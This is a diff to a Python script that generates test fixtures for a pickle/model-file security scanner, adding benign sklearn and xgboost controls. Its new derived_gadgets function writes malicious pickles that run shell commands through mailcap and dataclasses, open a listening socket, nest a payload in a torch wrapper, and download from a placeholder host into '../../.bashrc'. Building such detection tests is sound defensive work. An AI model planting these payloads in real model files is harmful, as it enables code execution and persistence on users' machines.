@@ -375,6 +375,35 @@ def second_stages():
     out(ERR, "stage_zip_member.zip", buf.getvalue())
 
 
+def derived_gadgets():
+    """Gadgets that only the derived tier lists (internal/pickle/danger_gen.go):
+    library callables that reach a sink, named on no hand-written list and
+    on no other scanner's. Each is reported with its sink category."""
+    def binbytes(b):
+        return b"B" + struct.pack("<I", len(b)) + b
+
+    # mailcap.findmatch runs a capability's "test" command with os.system.
+    out(ERR, "derived_mailcap.pkl",
+        b"\x80\x02cmailcap\nfindmatch\n(}" + binunicode("text/plain") + b"](" + b"}(" + binunicode("view") + binunicode("true")
+        + binunicode("test") + binunicode(SHELL) + b"ue" + b"s" + binunicode("text/plain") + b"tR.")
+    # dataclasses._create_fn execs "def f(<args>)": a default value runs.
+    out(ERR, "derived_create_fn.pkl",
+        b"\x80\x02cdataclasses\n_create_fn\n(" + binunicode("f") + b"](" + binunicode("x=__import__('os').system('id')")
+        + b"e](" + binunicode("return x") + b"etR.")
+    # smtpd.SMTPServer binds a listening socket when it is built.
+    out(ERR, "derived_smtpd.pkl",
+        b"\x80\x02csmtpd\nSMTPServer\n(" + binunicode("0.0.0.0") + b"M\xb5\x1f\x86Nt" + b"R.")
+    # The datapipe wrapper's __setstate__ unpickles the bytes BUILD gives it.
+    out(ERR, "derived_datapipe.pkl",
+        b"\x80\x04\x8c#torch.utils.data.datapipes.datapipe\x8c\x1d_DataPipeSerializationWrapper\x93)\x81"
+        + binbytes(PAYLOAD) + b"\x89\x86b.")
+    # sklearn's dataset fetcher downloads remote.url to a path of the caller's choosing.
+    out(ERR, "derived_fetch_remote.joblib",
+        b"\x80\x02csklearn.datasets._base\n_fetch_remote\n(ctypes\nSimpleNamespace\n)R}(" + binunicode("url")
+        + binunicode("https://models-cdn.example/payload.bin") + binunicode("filename") + binunicode("../../.bashrc")
+        + binunicode("checksum") + binunicode("0" * 64) + b"ub" + binunicode("/tmp") + b"tR.")
+
+
 def sklearn_models():
     """Benign controls written by Debian's python3-sklearn with joblib.dump:
     they must produce nothing above low."""
@@ -392,6 +421,18 @@ def sklearn_models():
     joblib.dump(pipe, os.path.join(OK, "pipeline.joblib"))
 
 
+def xgboost_model():
+    """A benign control written by Debian's python3-xgboost: the classifier
+    is on the derived allowlist; its Booster is not (Booster.dump_model
+    writes a file), so it is a custom class at low, nothing above."""
+    import xgboost as xgb
+
+    rng = np.random.default_rng(0)
+    X = rng.standard_normal((100, 4))
+    y = (X[:, 0] > 0).astype(int)
+    joblib.dump(xgb.XGBClassifier(n_estimators=3, max_depth=2).fit(X, y), os.path.join(OK, "xgb_classifier.joblib"))
+
+
 if __name__ == "__main__":
     benign()
     malicious()
@@ -402,4 +443,6 @@ if __name__ == "__main__":
     call_shapes()
     ext_codes()
     second_stages()
+    derived_gadgets()
     sklearn_models()
+    xgboost_model()
